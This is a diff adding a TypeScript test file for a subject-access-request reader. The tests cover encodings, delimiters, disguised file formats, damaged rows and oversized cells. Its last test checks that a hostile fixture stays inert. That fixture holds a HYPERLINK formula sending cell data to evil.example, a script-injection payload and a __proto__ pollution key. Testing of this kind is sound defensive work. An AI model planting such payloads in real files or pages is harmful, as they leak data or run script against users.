@@ -1,0 +1,189 @@
+/** Files of every kind: encodings, delimiters, disguises, damage and size. */
+import { readFileSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { decodeText } from '#lib/sar/formats/decode-text.ts';
+import { detectFormat } from '#lib/sar/formats/detect-format.ts';
+import { guessDelimiter } from '#lib/sar/formats/guess-delimiter.ts';
+import { readCells } from '#lib/sar/formats/read-cells.ts';
+import { cellName } from '#lib/sar/formats/sheet.ts';
+import { readAnswer } from '#lib/sar/read-answer.ts';
+
+const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
+const bytes = (...values: number[]): Uint8Array => Uint8Array.from([...values, ...utf8('rest of the file')]);
+const utf16 = (text: string, bigEndian: boolean, mark: boolean): Uint8Array => {
+  const out = Buffer.from(mark ? `\ufeff${text}` : text, 'utf16le');
+  return new Uint8Array(bigEndian ? out.swap16() : out);
+};
+const rowsOf = (name: string, content: Uint8Array) =>
+  readCells({ name, bytes: content }).sheets[0]?.rows.map((row) => row.cells);
+
+describe('encodings', () => {
+  test.each([
+    ['UTF-8', utf8('Tŷ,ŵ'), 'utf-8'],
+    ['UTF-8 with its mark', utf8('\ufeffTŷ,ŵ'), 'utf-8'],
+    ['UTF-16, small end first', utf16('Tŷ,ŵ', false, true), 'utf-16le'],
+    ['UTF-16, big end first', utf16('Tŷ,ŵ', true, true), 'utf-16be'],
+  ])('%s is read without a problem', (_name, content, encoding) => {
+    expect(decodeText('a.csv', content)).toEqual({ text: 'Tŷ,ŵ', encoding, problems: [] });
+  });
+
+  test.each([
+    [false, 'utf-16le'],
+    [true, 'utf-16be'],
+  ] as const)('UTF-16 without a mark is recognised (big end first: %s)', (bigEndian, encoding) => {
+    expect(decodeText('a.csv', utf16('field,value\nEmail,none', bigEndian, false))).toMatchObject({
+      text: 'field,value\nEmail,none',
+      encoding,
+    });
+  });
+
+  test('Windows-1252 is read, with a problem that says so', () => {
+    const decoded = decodeText('a.csv', Uint8Array.from([0x5a, 0x6f, 0xeb, 0x2c, 0x93, 0x80, 0x94]));
+    expect(decoded).toMatchObject({ text: 'Zoë,“€”', encoding: 'windows-1252', problems: [{ kind: 'encoding' }] });
+  });
+
+  test('a damaged character does not turn a whole Welsh text into another encoding', () => {
+    const decoded = decodeText('a.csv', Uint8Array.from([...utf8('ŵŷâêîôûŵŷâêîôû'), 0xff, ...utf8(' ŵŷ')]));
+    expect(decoded.encoding).toBe('utf-8');
+    expect(decoded.problems).toMatchObject([{ kind: 'encoding' }]);
+  });
+});
+
+describe('delimiters', () => {
+  test.each([
+    ['a,b,c\n1,2,3\n4,5,6', ','],
+    ['a;b;c\n1,5;2,5;3,5\n4;5;6', ';'],
+    ['a\tb\n1, x\t2\n3\t4', '\t'],
+    ['a|b|c\n1|2|3', '|'],
+    ['"one, two";b\n"three, four";d', ';'],
+  ])('%j is cut by %j', (text, delimiter) => expect(guessDelimiter(text)?.delimiter).toBe(delimiter));
+
+  test('a letter is not a table, whatever commas it has', () => {
+    expect(rowsOf('letter.txt', utf8('Dear Ms Example, thank you.\nWe hold nothing.\nYours, the team'))).toEqual([
+      ['Dear Ms Example, thank you.'],
+      ['We hold nothing.'],
+      ['Yours, the team'],
+    ]);
+  });
+
+  test('the first line of Excel names the delimiter', () => {
+    expect(rowsOf('a.csv', utf8('sep=;\na;b,c\n1;2,5\n'))?.[1]).toEqual(['a', 'b,c']);
+  });
+
+  test('quoted cells keep their delimiters and line breaks, whatever the line ends', () => {
+    expect(rowsOf('a.csv', utf8('"a\r\nb",c\r\n"d,e","f ""g"""\r\n'))?.slice(0, 2)).toEqual([
+      ['a\nb', 'c'],
+      ['d,e', 'f "g"'],
+    ]);
+  });
+
+  test('columns are named as in a spreadsheet', () => {
+    expect([cellName(1, 0), cellName(7, 25), cellName(7, 26), cellName(3, 701), cellName(3, 702)]).toEqual([
+      'A1',
+      'Z7',
+      'AA7',
+      'ZZ3',
+      'AAA3',
+    ]);
+  });
+});
+
+describe('files that are something else', () => {
+  test.each([
+    ['xlsx', 'PK\u0003\u0004....xl/workbook.xml'],
+    ['docx', 'PK\u0003\u0004....word/document.xml'],
+    ['ods', 'PK\u0003\u0004mimetypeapplication/vnd.oasis.opendocument.spreadsheet'],
+    ['zip', 'PK\u0003\u0004....letter.txt'],
+    ['pdf', '%PDF-1.7'],
+    ['rtf', String.raw`{\rtf1`],
+    ['html', '<!DOCTYPE html><table>'],
+    ['html', '\n<html xmlns:x="urn:schemas-microsoft-com:office:excel">'],
+    ['json', '{"facts": []}'],
+    ['mail', 'MIME-Version: 1.0\nFrom: a@example.org\n\nDear'],
+    ['binary', 'a\u0000b\u0000\u0000c'],
+    ['text', 'field,value'],
+    ['text', '{curly} start of a letter'],
+  ])('%s: %j', (format, head) => expect(detectFormat('a.csv', utf8(head))).toBe(format));
+
+  test('old Office files and pictures are known by their first bytes', () => {
+    expect(detectFormat('a.csv', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1))).toBe('ole');
+    expect(detectFormat('a.csv', bytes(0x89, 0x50, 0x4e, 0x47))).toBe('image');
+    expect(detectFormat('a.csv', bytes(0x1f, 0x8b))).toBe('gzip');
+  });
+
+  test('a spreadsheet called CSV is named as what it is, with what to do, and nothing is claimed of it', async () => {
+    const answer = await readAnswer(
+      { name: 'answer.csv', bytes: utf8('PK\u0003\u0004....xl/workbook.xml') },
+      { controller: 'labour' },
+    );
+    expect(answer).toMatchObject({
+      facts: [],
+      statements: [],
+      remainders: [],
+      problems: [{ kind: 'not-this-format', at: 'answer.csv' }],
+    });
+    expect(answer.problems[0]?.seen).toContain('save each sheet as CSV');
+  });
+
+  test('a PDF called PDF is a file that is not read yet', async () => {
+    const answer = await readAnswer({ name: 'answer.pdf', bytes: utf8('%PDF-1.7') }, { controller: 'labour' });
+    expect(answer.problems).toMatchObject([{ kind: 'unread-file', at: 'answer.pdf' }]);
+  });
+
+  test.each(['', '\ufeff', ' \n\r\n ', ',,,\n,,,'])(
+    'an empty file (%j) says nothing, not even silence',
+    async (text) => {
+      const answer = await readAnswer({ name: 'a.csv', bytes: utf8(text) }, { controller: 'labour' });
+      expect(answer.statements).toEqual([]);
+      if (text.trim() === '' || text === '\ufeff') expect(answer.problems).toMatchObject([{ kind: 'empty' }]);
+    },
+  );
+});
+
+describe('damage and size', () => {
+  test('a quotation mark that is never closed does not swallow the rest', async () => {
+    const answer = await readAnswer(
+      { name: 'a.csv', bytes: utf8('field,value\nNotes,"said hello\nCity,Leeds\nEmail,none held\n') },
+      { controller: null },
+    );
+    expect(answer.facts.map((fact) => fact.label)).toEqual(['Notes', 'City']);
+    expect(answer.problems).toMatchObject([{ kind: 'broken-line' }]);
+  });
+
+  test('ragged rows keep what can be read and are counted', async () => {
+    const answer = await readAnswer(
+      { name: 'a.csv', bytes: utf8('field,value,source\nCity,Leeds\nWard,Kirkstall,Register,extra,more\n') },
+      { controller: null },
+    );
+    expect(answer.facts.map((fact) => fact.value)).toEqual(['Leeds', 'Kirkstall']);
+    expect(answer.remainders.map((remainder) => remainder.text)).toEqual(['extra', 'more']);
+    expect(answer.problems.map((each) => each.kind)).toEqual(['ragged-row', 'ragged-row']);
+  });
+
+  test('a cell of 10 MB is kept whole, named, and not searched', async () => {
+    const large = 'We hold no email address for you. '.repeat(310_000);
+    const answer = await readAnswer(
+      { name: 'a.csv', bytes: utf8(`field,value\nNotes,"${large}"\nCity,Leeds\n`) },
+      { controller: null },
+    );
+    expect(answer.facts.map((fact) => fact.value)).toEqual(['Leeds']);
+    expect(answer.remainders.find((each) => each.where.cell === 'B2')?.text).toHaveLength(large.trim().length);
+    expect(answer.problems).toMatchObject([{ kind: 'too-large', at: 'a.csv B2' }]);
+  }, 20_000);
+
+  test('formulas and markup are text, and a column called __proto__ changes nothing', async () => {
+    const answer = await readAnswer(
+      { name: 'hostile.csv', bytes: new Uint8Array(readFileSync('tests/fixtures/sar/hostile.csv')) },
+      { controller: null },
+    );
+    expect(answer.facts.map((fact) => fact.value)).toEqual(
+      expect.arrayContaining([
+        'polluted',
+        '=HYPERLINK("https://evil.example/?q="&A1,"open")',
+        '<script>alert(1)</script>',
+      ]),
+    );
+    expect(answer.facts.find((fact) => fact.label === '__proto__')?.value).toBe('polluted');
+    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
+  });
+});
